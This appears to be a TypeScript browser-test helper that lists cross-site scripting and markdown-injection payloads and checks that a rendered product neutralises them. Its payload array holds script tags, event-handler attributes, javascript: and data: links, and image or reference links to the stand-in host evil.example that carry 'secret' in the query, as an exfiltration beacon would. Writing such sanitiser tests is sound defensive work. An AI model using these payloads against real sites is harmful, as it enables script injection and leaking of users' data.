import type { Locator } from 'playwright-core'
import { expect } from 'vitest'
import type { OpenBrowser } from './browser.ts'

/** A host that nothing in this test may ever call. */
const evil = 'https://evil.example'

/** Texts that were executed in products of this kind: scripts, remote images, links that run code. */
export const hostileTexts = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(2)>',
  `<img src="${evil}/pixel.png">`,
  `"><svg/onload=alert(3)><iframe src="${evil}/frame">`,
  '[press me](javascript:alert(4))',
  '[and me](JaVaScRiPt:alert(5))',
  '[or me](data:text/html,<script>alert(6)</script>)',
  `![picture](${evil}/?d=secret)`,
  `[![linked](${evil}/in-link.png)](${evil}/go)`,
  `![by reference][1] and [text][1]\n\n[1]: ${evil}/?ref=secret`,
  `<https://evil.example/auto> <a href="javascript:alert(7)" onclick="alert(8)">tag</a>`,
  `<link rel=stylesheet href=${evil}/s.css><style>@import "${evil}/s2.css"</style>`,
]

/** Expects that a hostile text had no effect: no dialog, no request to another host, no element. */
export async function expectHarmless({ dialogs, foreign }: OpenBrowser, within: Locator): Promise<void> {
  const brought = within.locator(
    'script, iframe, img:not([alt=""]), style, link, object, embed, [onclick], [onerror], [onload]',
  )
  expect(await brought.evaluateAll((all) => all.map((one) => one.outerHTML))).toEqual([])
  const links = await within.locator('a').evaluateAll((all) => all.map((one) => (one as HTMLAnchorElement).protocol))
  expect(links.filter((protocol) => !['http:', 'https:', 'mailto:', 'tel:'].includes(protocol))).toEqual([])
  expect({ dialogs, foreign }).toEqual({ dialogs: [], foreign: [] })
}
